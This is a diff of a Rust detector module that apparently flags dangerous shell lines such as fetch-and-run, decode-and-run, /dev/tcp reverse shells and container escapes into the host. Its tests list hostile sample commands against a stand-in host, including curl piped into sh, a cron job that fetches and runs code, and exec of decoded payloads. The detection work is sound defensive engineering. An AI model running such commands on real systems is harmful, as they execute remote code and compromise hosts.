@@ -4,14 +4,20 @@
 //! download whose output is run.
 
 mod run;
+mod shell;
 
 use memchr::memchr_iter;
 use memchr::memmem::{find, find_iter};
 
 use super::hidden::is_known_temporary;
 use super::places::{SOCKET_FOLDERS, below, hidden, is_hidden_away, is_scratch, split, within};
+use super::programs;
 use super::provenance::is_hidden;
-use run::{Word, words};
+use crate::triage::line::Command;
+use crate::triage::line::call::{Call, enters_the_host, pipes_into, read, walk};
+use crate::triage::line::flow::{runs_what_it_decodes, runs_what_it_fetches};
+use run::{Path, paths};
+use shell::lists_and_texts;
 
 /// Longest line that is judged, bytes; what is longer is judged by its beginning.
 const LONGEST: usize = 8 << 10;
@@ -77,22 +83,14 @@ const WEAK: bool = false;
 fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
     let lower = line.to_ascii_lowercase();
     let has = |words: &[&[u8]]| words.iter().any(|word| find(&lower, word).is_some());
-    let shell = runs_input(&lower);
-    let fetches = has(&[b"curl ", b"wget ", b"fetch ", b"lwp-download", b"ftpget ", b"tftp "]);
-    let decodes = has(&[
-        b"base64 -d",
-        b"base64 --decode",
-        b"base64 -di",
-        b"b64decode",
-        b"base32 -d",
-        b"xxd -r",
-        b"openssl enc",
-        b"fromhex(",
-        b"decode('hex')",
-    ]);
-    let runs_text = has(&[b"eval ", b"eval(", b"exec(", b"$(", b"`", b"<("]);
+    let told = has(&[b"/dev/tcp/", b"/dev/udp/", b"nsenter"]) || programs::may_bring(line);
+    let lists = if told { lists_and_texts(line) } else { Vec::new() };
+    let any = |does: fn(&[Command]) -> bool| lists.iter().any(|list| does(list));
+    // In other languages than a shell's.
+    let decodes = has(&[b"b64decode", b"fromhex(", b"decode('hex')"]);
+    let evaluates = has(&[b"eval ", b"eval(", b"exec("]);
     if has(&[b"/dev/tcp/", b"/dev/udp/"]) {
-        match joins_shell(&lower) {
+        match joins_shell(&lower, &lists) {
             Some(STRONG) => return Some((STRONG, "joins a shell to a network connection")),
             Some(WEAK) => return Some((WEAK, "opens a network connection from the shell")),
             None => {}
@@ -102,18 +100,13 @@ fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
         return Some((STRONG, "joins a shell to a network connection"));
     }
     let made_to_run = has(&[b"chmod +x", b"chmod 7", b"chmod a+x", b"chmod u+x", b"chmod 0"]);
-    if let Some(found) = escapes(&lower) {
+    if let Some(found) = escapes(&lower, any(enters_the_host)) {
         return Some(found);
     }
-    if fetches
-        && (shell
-            || runs_next(&lower)
-            || made_to_run
-            || has(&[b"$(curl", b"$(wget", b"`curl", b"`wget", b"<(curl", b"<(wget"]))
-    {
+    if any(runs_what_it_fetches) || (any(fetches) && (made_to_run || any(runs_beside))) {
         return Some((STRONG, "fetches something and runs it"));
     }
-    if decodes && (shell || runs_text) {
+    if any(runs_what_it_decodes) || (decodes && evaluates) {
         return Some((STRONG, "decodes something and runs it"));
     }
     if has(&[b"ld_preload=", b"ld_audit="]) {
@@ -137,39 +130,36 @@ fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
     odd_place(line)
 }
 
-/// Whether output of a command goes into an interpreter.
-fn runs_input(lower: &[u8]) -> bool {
-    lower.split(|byte| *byte == b'|').skip(1).any(is_interpreter)
+/// Whether a command fetches something.
+fn fetches(commands: &[Command]) -> bool {
+    let mut found = false;
+    walk(commands, &mut |command| {
+        found |= Call::of(command).is_some_and(|call| programs::fetches(call.name(), &[]));
+    });
+    found
 }
 
-/// Whether a command after the first one of a line runs a script or a file of the current directory.
-fn runs_next(lower: &[u8]) -> bool {
-    let commands = lower.split(|byte| matches!(byte, b';' | b'&' | b'\n')).skip(1);
-    commands.map(<[u8]>::trim_ascii).any(|command| {
-        command.starts_with(b"./") || (is_interpreter(command) && command.contains(&b' '))
-    })
+/// Whether a command after the first one of a line runs a file of the current directory: what was unpacked there.
+fn runs_beside(commands: &[Command]) -> bool {
+    let calls = commands.iter().skip(1).filter_map(Call::of);
+    calls.into_iter().any(|call| call.program.text.starts_with(b"./"))
 }
 
-/// Whether a command is an interpreter: by its name, whatever its path is.
-fn is_interpreter(command: &[u8]) -> bool {
-    const INTERPRETERS: [&[u8]; 11] = [
-        b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python", b"python3", b"perl", b"ruby",
-        b"php",
-    ];
-    let words = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
-    let mut words =
-        words.skip_while(|word| matches!(*word, b"sudo" | b"env" | b"nohup" | b"setsid" | b"exec"));
-    words.next().is_some_and(|word| {
-        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or(word);
-        let part = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
-        let end = name.iter().position(|byte| !part(byte)).unwrap_or(name.len());
-        name.get(..end).is_some_and(|name| INTERPRETERS.contains(&name))
-    })
+/// Whether an interpreter reads its program from a connection.
+fn reads_connection(commands: &[Command]) -> bool {
+    let mut found = false;
+    walk(commands, &mut |command| {
+        let connection = read(command).any(|word| {
+            [&b"/dev/tcp/"[..], b"/dev/udp/"].iter().any(|name| word.text.starts_with(name))
+        });
+        found |= connection && Call::of(command).is_some_and(|call| call.interprets());
+    });
+    found
 }
 
 /// How a line uses bash's names of connections: whether it joins a shell to one, or only carries data over it. Asking
 /// whether a port is open, as entrypoints do that wait for a database, is nothing.
-fn joins_shell(lower: &[u8]) -> Option<bool> {
+fn joins_shell(lower: &[u8], lists: &[Vec<Command>]) -> Option<bool> {
     let has = |words: &[&[u8]]| words.iter().any(|word| find(lower, word).is_some());
     let local = has(&[b"/tcp/localhost/", b"/tcp/127.", b"/tcp/::1/"]);
     let number = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_digit);
@@ -189,17 +179,9 @@ fn joins_shell(lower: &[u8]) -> Option<bool> {
     });
     let as_terminal = has(&[b"0>&1", b"0<&1", b"1>&0", b" -i ", b">& /dev/", b">&/dev/"])
         || has(&[b"&>/dev/tcp", b"&>/dev/udp", b"&> /dev/tcp"]);
-    let shell_reads = [&b"</dev/tcp"[..], b"< /dev/tcp", b"</dev/udp", b"<>/dev/tcp"];
-    let shell_reads = shell_reads.iter().any(|sign| {
-        find_iter(lower, sign).any(|at| {
-            let before = lower.get(..at).unwrap_or_default();
-            let before = before.strip_suffix(b"0").unwrap_or(before);
-            let command = before.rsplit(|byte| b";&|(\"'`".contains(byte)).next();
-            command.is_some_and(is_interpreter)
-        })
-    });
+    let program = lists.iter().any(|list| reads_connection(list) || pipes_into(list));
     let evaluates = has(&[b"read "]) && has(&[b"eval ", b"$(", b"`", b"sh -c", b"done"]);
-    if as_terminal || shell_reads || runs_input(lower) || (evaluates && !local) {
+    if as_terminal || program || (evaluates && !local) {
         return Some(STRONG);
     }
     let uses = descriptor(b"<&") || descriptor(b">&");
@@ -230,7 +212,7 @@ fn is_probe(lower: &[u8]) -> bool {
 }
 
 /// Known ways out of a container.
-fn escapes(lower: &[u8]) -> Option<(bool, &'static str)> {
+fn escapes(lower: &[u8], enters_the_host: bool) -> Option<(bool, &'static str)> {
     let has = |words: &[&[u8]]| words.iter().any(|word| find(lower, word).is_some());
     let writes = has(&[b">", b"tee ", b"sysctl -w", b"dd ", b"cp "]);
     let piped = || {
@@ -253,13 +235,7 @@ fn escapes(lower: &[u8]) -> Option<(bool, &'static str)> {
     if has(&[b"uevent_helper"]) && writes {
         return Some((STRONG, "sets what the kernel of the host runs when a device appears"));
     }
-    let first = [&b"-t 1"[..], b"-t1", b"--target 1", b"--target=1"].iter().any(|sign| {
-        find_iter(lower, sign).any(|at| {
-            let after = lower.get(at.saturating_add(sign.len()));
-            after.is_none_or(|byte| !byte.is_ascii_digit())
-        })
-    });
-    if has(&[b"nsenter "]) && (first || has(&[b"/proc/1/ns"])) {
+    if enters_the_host {
         return Some((STRONG, "enters the namespaces of the host"));
     }
     if has(&[b"/proc/1/root/", b"/proc/1/root "]) || lower.ends_with(b"/proc/1/root") {
@@ -308,7 +284,7 @@ const OF_GIT: [&[u8]; 3] = [b".git", b".githooks", b".husky"];
 /// files of the system and temporary ones.
 fn odd_place(line: &[u8]) -> Option<(bool, &'static str)> {
     let mut found = None;
-    for Word { path, run } in words(line) {
+    for Path { path, run } in paths(line) {
         // What follows the text of a script that carries an archive has no words.
         if !path.iter().all(u8::is_ascii_graphic) {
             continue;
@@ -392,6 +368,12 @@ mod tests {
             "ExecStart=/opt/.w/agent",
             "cp /usr/lib/.x/ps /usr/bin/ps",
             "wget http://a.example/x -O /opt/x && chmod +x /opt/x && /opt/x",
+            "X=$(curl -s http://a.example/x); eval \"$X\"",
+            "curl -s http://a.example/x > /opt/x; . /opt/x",
+            "os.system(\"curl http://a.example/x | sh\")",
+            "echo \"* * * * * curl http://a.example/x | sh\" | crontab -",
+            "wget http://a.example/x.tgz; tar xf x.tgz; ./x/run",
+            "exec(base64.b64decode('aWQ='))",
         ] {
             assert!(of(line).is_some(), "{line}");
         }
@@ -409,6 +391,10 @@ mod tests {
             "curl -fsS http://localhost/health || exit 1",
             "alias ll='ls -l'",
             "curl -fsSL http://a.example/x.tar -o x.tar && tar xf x.tar",
+            "IP=$(curl -s http://a.example/ip) exec app --ip \"$IP\"",
+            "PASSWORD=$(echo $P | base64 -d) exec app",
+            "curl -s http://a.example/x.json | python3 -c 'import json,sys;print(json.load(sys.stdin))'",
+            "curl -f http://a.example/c -o /app/c.json && python3 /app/main.py",
             "echo done >/tmp/done",
             "ExecStart=/usr/sbin/nginx -g 'daemon off;'",
             "*/5 * * * * app /app/.venv/bin/python manage.py tick",
